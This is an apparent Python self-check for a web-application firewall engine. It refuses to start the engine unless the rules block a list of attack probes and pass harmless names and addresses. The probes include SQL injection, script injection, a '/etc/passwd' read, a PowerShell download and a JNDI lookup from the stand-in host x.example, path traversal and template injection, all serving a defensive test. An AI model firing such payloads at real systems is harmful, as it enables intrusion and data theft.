"""Proof at the start that the rules work: a rule with a broken pattern loads without a word."""

from collections.abc import Mapping
from typing import Final
from urllib.parse import quote

from modellkommune.firewall.engine import Engine, Inspected, RulesRefused

PROBES: Final[Mapping[str, str]] = {
    "SQL": "1' OR '1'='1' --",
    "scripts": "<script>alert(1)</script>",
    "commands": "; cat /etc/passwd",
    "commands of Windows": "powershell -c Invoke-WebRequest http://x.example/a.ps1",
    "files": "../../../../etc/passwd",
    "PHP": "base64_decode('eA==')",
    "templates": "{{7*7}}",
    "Java": "${jndi:ldap://x.example/a}",
    "requests in requests": "GET /a HTTP/1.1",
}
HARMLESS: Final = ("Müller", "D'Angelo", "Straße des 17. Juni 135", "karl@example.de", "only")


def proven(engine: Engine) -> Engine:
    """The engine, if it turns each probe away and lets what is harmless through. Raises RulesRefused."""
    passed = [name for name, probe in PROBES.items() if engine.inspect(_asked(probe)) is None]
    if passed:
        raise RulesRefused(f"the rules let these attacks through: {', '.join(passed)}")
    refused = [value for value in HARMLESS if engine.inspect(_asked(value)) is not None]
    if refused:
        raise RulesRefused(f"the rules turn harmless values away: {', '.join(refused)}")
    return engine


def _asked(value: str) -> Inspected:
    return Inspected("GET", f"/?probe={quote(value)}", "1.1", ((b"Host", b"localhost"),), b"", "127.0.0.1")
